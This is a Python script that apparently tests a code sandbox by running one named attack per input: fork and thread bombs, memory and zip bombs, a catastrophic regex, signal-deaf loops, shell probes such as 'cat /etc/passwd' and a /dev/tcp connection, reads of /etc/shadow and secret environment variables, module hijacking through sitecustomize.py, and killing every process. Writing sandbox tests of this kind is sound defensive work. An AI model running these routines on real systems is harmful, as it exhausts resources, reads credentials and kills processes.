"""Attacks by way of the Python interpreter. The first word of the input names one; "honest a b" adds. Run it nowhere but in a box."""
import ctypes
import mmap
import os
import re
import signal
import socket
import subprocess
import sys
import threading
import time
import zlib

possible = False


def found(what):
    global possible
    possible = True
    print('possible:', what)


def refused(what, deed):
    try:
        deed()
    except (OSError, ValueError, subprocess.SubprocessError):
        return
    found(what)


def fork_bomb():
    while True:
        try:
            os.fork()
        except OSError:
            pass


def burn_in_children():
    for _ in range(4):
        if os.fork() == 0:
            os.setsid()
            while True:
                pass
    time.sleep(1000)


def thread_bomb():
    threading.stack_size(1 << 16)
    try:
        for _ in range(5000):
            threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
    except RuntimeError:
        print('contained', flush=True)
        os._exit(0)
    found('5000 threads')


def allocate():
    kept = []
    while True:
        kept.append(bytearray(1 << 20))


def zip_bomb():
    """An archive in an archive: kilobytes that unpack to a hundred gigabytes."""
    packed = zlib.compress(zlib.compress(bytes(1 << 24)) * 64)
    inner = zlib.decompress(packed)
    out = []
    rest = inner
    while rest:
        unpacker = zlib.decompressobj()
        out.append(unpacker.decompress(rest))
        rest = unpacker.unused_data


def anonymous_maps():
    kept = []
    while True:
        one = mmap.mmap(-1, 1 << 22)
        for at in range(0, 1 << 22, 4096):
            one[at] = 1
        kept.append(one)


def shared_memory():
    import multiprocessing.shared_memory as shared
    refused('named shared memory', lambda: shared.SharedMemory('podium', create=True, size=1 << 20))


def large_number():
    """One step of the interpreter, deaf to its signals, that takes hours."""
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    print(3 ** (10 ** 9))


def evil_regex():
    re.match(r'(a|aa)+$', 'a' * 200 + 'b')


def recurse():
    sys.setrecursionlimit(10 ** 9)

    def deeper():
        return deeper() + 1
    deeper()


def deaf_sleeper():
    for one in range(1, 65):
        try:
            signal.signal(one, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True:
        time.sleep(1000)


def flood():
    while True:
        try:
            os.write(1, b'x' * 65536)
        except OSError:
            pass


def deaf_to_errors():
    kept = []
    while True:
        try:
            kept.append('x' * (1 << 22))
        except MemoryError:
            pass


def shell():
    for command in ['cat /etc/passwd', 'ls /root', 'cat /proc/1/environ', 'mount -t tmpfs none /tmp', "bash -c 'exec 3<>/dev/tcp/127.0.0.1/5432'", 'unshare -Ur true', 'chroot / true']:
        refused(command, lambda: subprocess.run(['/bin/sh', '-c', command], check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))


def network():
    for port in [4222, 5432, 8080, 80, 22]:
        refused('port %d' % port, lambda: socket.create_connection(('127.0.0.1', port), 1))
    refused('vsock', lambda: socket.socket(40, socket.SOCK_STREAM).connect((2, 22)))
    refused('a name on the network', lambda: socket.getaddrinfo('example.org', 80))
    refused('a service of the host', lambda: socket.socket(socket.AF_UNIX).connect('\0podium'))


def raw_calls():
    """By number: mount, ptrace, keyctl, add_key, bpf, perf_event_open, userfaultfd, io_uring_setup, shmget, unshare, setns, open_by_handle_at."""
    libc = ctypes.CDLL(None, use_errno=True)
    for number in [165, 101, 250, 248, 321, 298, 323, 425, 29, 304]:
        if libc.syscall(number, 0, 0, 0, 0, 0) >= 0:
            found('system call %d' % number)
    if libc.syscall(272, 0x10000000) >= 0:
        found('a user namespace')


def host_files():
    for path in ['/etc/passwd', '/etc/shadow', '/root', '/home', '/var', '/sys', '/run', '/proc/1/environ', '/dev/vda', '/dev/kvm', '/dev/vsock']:
        if os.access(path, os.R_OK):
            found(path)
    for path in ['/usr/x', '/etc/x', '/x', '/usr/lib/python3/dist-packages/sitecustomize.py', '/dev/x']:
        refused(path, lambda: open(path, 'w'))
    for name, value in os.environ.items():
        if re.search('secret|password|token|nats|podium', name + value, re.I):
            found(name)
    for fd in range(3, 1024):
        refused('descriptor %d' % fd, lambda: os.fstat(fd))


def hijack_modules():
    """What the next run of the interpreter would import instead of the library's own."""
    for name in ['re.py', 'random.py', 'zlib.py', 'socket.py', 'sitecustomize.py', 'usercustomize.py', '__pycache__/re.cpython-311.pyc', 'main.pyc']:
        try:
            os.makedirs(os.path.dirname('/box/' + name), exist_ok=True)
            open('/box/' + name, 'w').write('print("hijacked")\n')
        except OSError:
            pass
    refused('its own source', lambda: open('/box/main.py', 'a'))
    refused('its own source', lambda: os.remove('/box/main.py'))
    refused('its own source', lambda: os.rename('/box/re.py', '/box/main.py'))
    if os.fork() == 0:
        os.setsid()
        time.sleep(1000)


def kill_everybody():
    for pid in [-1, 1] + list(range(2, 400)):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass


def crash():
    ctypes.string_at(8)


def main():
    words = sys.stdin.read().split()
    if words[0] == 'honest':
        print(int(words[1]) + int(words[2]))
        return
    globals()[words[0]]()
    if not possible:
        print('contained')


main()
